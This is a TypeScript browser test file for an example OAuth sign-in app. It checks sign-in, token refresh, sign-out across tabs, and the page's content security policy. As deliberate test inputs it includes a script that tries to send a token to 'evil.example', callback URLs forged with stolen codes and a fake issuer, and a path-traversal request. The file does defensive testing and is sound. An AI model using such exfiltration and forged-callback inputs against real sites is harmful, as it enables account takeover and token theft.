import { type ChildProcess, spawn } from 'node:child_process';
import { once } from 'node:events';
import { text } from 'node:stream/consumers';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
import { openChromium } from '../../server/test/support/browser/chromium.ts';
import { freePort } from '../../server/test/support/process/free-port.ts';
import {
  type Browser,
  type BrowserContext,
  openPage,
  type Page,
  submitLogin,
} from '../../tools/testing/hosted-pages.ts';
import { type InstalledExample, installExample } from '../../tools/testing/install-example.ts';
import { type ReadmeServer, startReadmeServer } from '../../tools/testing/readme-server.ts';

const here = fileURLToPath(new URL('.', import.meta.url));

let example: InstalledExample;
let arot: ReadmeServer;
let host: ChildProcess;
let origin: string;
let browser: Browser;
let context: BrowserContext;
let page: Page;
/** Errors of the page, and errors in its console, such as violations of the policy. */
let pageErrors: string[];

beforeAll(async () => {
  const port = String(await freePort());
  origin = `http://localhost:${port}`;
  [example, arot, browser] = await Promise.all([
    installExample(here),
    startReadmeServer(here, (line) => line.replaceAll('localhost:5175', `localhost:${port}`)),
    openChromium(),
  ]);
  host = serve({ PORT: port, AROT_URL: arot.url, OAUTH_CLIENT_ID: arot.values.clientId });
  await once(host.stdout ?? host, 'data');
});

afterAll(async () => {
  host?.kill();
  await arot?.stop();
  await example?.remove();
});

beforeEach(async () => {
  context = await browser.newContext();
  page = await openPage(context);
  pageErrors = [];
  page.on('pageerror', (error) => pageErrors.push(error.message));
  page.on('console', (message) => message.type() === 'error' && pageErrors.push(message.text()));
  return () => context.close();
});

const serve = (env: NodeJS.ProcessEnv) =>
  spawn(process.execPath, ['serve.mjs'], { cwd: example.folder, env: { PATH: process.env.PATH, ...env } });

/** Returns the state of a tab after its redirects. */
async function stateOf(tab: Page): Promise<string> {
  await tab.locator('#app[aria-busy=false]').waitFor();
  return (await tab.locator('#signed-in').isVisible()) ? tab.locator('#name').innerText() : 'signed out';
}

async function signIn(): Promise<void> {
  await page.goto(origin);
  expect(await stateOf(page)).toBe('signed out');
  await page.locator('#sign-in').click();
  await submitLogin(page);
  await page.waitForURL(`${origin}/`);
  expect(await stateOf(page)).toBe('Demo wholesale customer');
}

const countTokenRequests = () => arot.server.logs.filter(({ path }) => path === '/oauth/token').length;

it('signs in, and after a reload without a form', async () => {
  await page.goto(`${origin}/#price-list`);
  expect(await stateOf(page)).toBe('signed out');
  expect(page.url()).toBe(`${origin}/#price-list`);
  await signIn();
  expect(await page.locator('#email').innerText()).toBe('wholesale@example.com');
  const stored = '[...Object.values(localStorage), ...Object.values(sessionStorage), document.cookie].join()';
  // Cookies do not distinguish ports: this is the hint of the server, which says only that there is a session.
  expect(await page.evaluate(stored)).toBe('arot_session_hint=1');
  await page.goto(`${origin}/#price-list`);
  await page.reload();
  expect(await stateOf(page)).toBe('Demo wholesale customer');
  expect(page.url()).toBe(`${origin}/#price-list`);
  expect(pageErrors).toEqual([]);
});

it('rejects callbacks that do not belong to a request of the tab, and sends nothing', async () => {
  await page.goto(origin);
  expect(await stateOf(page)).toBe('signed out');
  const before = countTokenRequests();
  const iss = encodeURIComponent(arot.url);
  const expectRejected = async (query: string) => {
    await page.goto(`${origin}/?${query}`);
    expect(await stateOf(page)).toBe('signed out');
    expect(await page.locator('#problem').innerText(), query).toMatch('did not start in this tab');
    expect(new URL(page.url()).search).toBe('');
  };
  /** Starts a sign-in, and leaves it at the login page. @returns the state of the request */
  const startSignIn = async () => {
    const request = page.waitForRequest('**/oauth/authorize**');
    await page.locator('#sign-in').click();
    await page.locator('[name=identifier]').waitFor();
    return new URL((await request).url()).searchParams.get('state');
  };
  await expectRejected(`code=stolen&state=guessed&iss=${iss}`);
  await expectRejected(`code=stolen&state=${await startSignIn()}x&iss=${iss}`);
  await expectRejected(`code=stolen&state=${await startSignIn()}&iss=https://evil.example`);
  const state = await startSignIn();
  await page.goto(`${origin}/?error=access_denied&state=${state}&iss=${iss}`);
  expect(await stateOf(page)).toBe('signed out');
  expect(await page.locator('#problem').innerText()).toMatch('access_denied');
  await expectRejected(`code=stolen&state=${state}&iss=${iss}`);
  expect(countTokenRequests()).toBe(before);
});

it('refreshes its tokens once for simultaneous requests', async () => {
  await page.clock.install();
  await signIn();
  const before = countTokenRequests();
  await page.clock.fastForward(59.5 * 60_000);
  for (let click = 0; click < 5; click += 1) await page.locator('#reload').dispatchEvent('click');
  await expect.poll(countTokenRequests).toBe(before + 1);
  await page.locator('#name').filter({ hasText: 'Demo wholesale customer' }).waitFor();
  expect(countTokenRequests()).toBe(before + 1);
});

it('signs out of every tab and of Arot, and ends the tokens of each', async () => {
  await signIn();
  const second = await openPage(context);
  const tokens: string[] = [];
  for (const tab of [page, second]) {
    tab.on('request', (request) => {
      const authorization = request.headers().authorization;
      if (authorization) tokens.push(authorization);
    });
  }
  await second.goto(origin);
  expect(await stateOf(second)).toBe('Demo wholesale customer');
  await page.bringToFront();
  await page.locator('#reload').click();
  await expect.poll(() => new Set(tokens).size).toBe(2);

  await page.locator('#sign-out').click();
  await page.locator('button.primary').waitFor();
  expect(page.url()).toContain(`${arot.url}/oauth/logout`);
  await second.bringToFront();
  await second.locator('#signed-out').waitFor();
  expect(await second.locator('#email').textContent()).toBe('');
  for (const authorization of new Set(tokens)) {
    await expect
      .poll(async () => (await fetch(`${arot.url}/oauth/userinfo`, { headers: { authorization } })).status)
      .toBe(401);
  }

  await page.bringToFront();
  await page.locator('button.primary').click();
  await page.waitForURL(`${origin}/signed-out.html`);
  // A new tab asks Arot, where no user is signed in any more.
  const third = await openPage(context);
  await third.goto(origin);
  expect(await stateOf(third)).toBe('signed out');
});

it('runs no script but its own, and cannot be framed', async () => {
  await page.goto(origin);
  expect(await stateOf(page)).toBe('signed out');
  await expect(page.addScriptTag({ content: 'document.title = "attacked"' })).rejects.toThrow('TrustedScript');
  expect(await page.title()).toBe('Bazar App');
  await page.evaluate("fetch('https://evil.example/?token').catch(() => {})");
  expect(pageErrors.join()).toMatch(/https:\/\/evil\.example.*violates.*connect-src/);
  const response = await fetch(origin);
  expect(response.headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
  expect((await fetch(`${origin}/../serve.mjs`)).status).toBe(404);
  expect((await fetch(`${origin}/sdk/server.js`)).status).toBe(404);
});

it('prints the commands of its README if its variable is not set', async () => {
  const unset = serve({});
  const [printed, [code]] = await Promise.all([text(unset.stderr ?? process.stdin), once(unset, 'exit')]);
  expect(code).toBe(1);
  const commands = (document: string) => [...document.matchAll(/^npx arot .*$/gm)].map(([line]) => line);
  expect(commands(printed)).toEqual(commands(arot.readme));
});
